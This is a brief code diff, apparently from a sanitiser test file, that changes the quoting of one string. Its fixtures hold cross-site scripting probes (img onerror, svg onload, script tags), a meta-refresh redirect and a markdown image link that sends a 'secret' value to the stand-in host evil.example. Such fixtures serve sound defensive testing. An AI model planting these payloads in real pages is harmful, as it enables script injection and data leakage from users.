@@ -17,4 +17,4 @@ The zeppelin lands on Fridays, says <a href="http://evil.example">the board</a> 
 content="0;url=http://evil.example"> is how the zeppelin crew signs its letters.
 """
 PAYLOADS = ("<img src=x onerror=alert(1)>", "![leak](http://evil.example/leak.png?q=secret)", "<svg onload=alert(3)>")
-HOSTILE_WORDS = '<img src=x onerror=alert(9)> ![q](http://evil.example/q.png) **who** <script>alert(8)</script> :smile:'
+HOSTILE_WORDS = "<img src=x onerror=alert(9)> ![q](http://evil.example/q.png) **who** <script>alert(8)</script> :smile:"
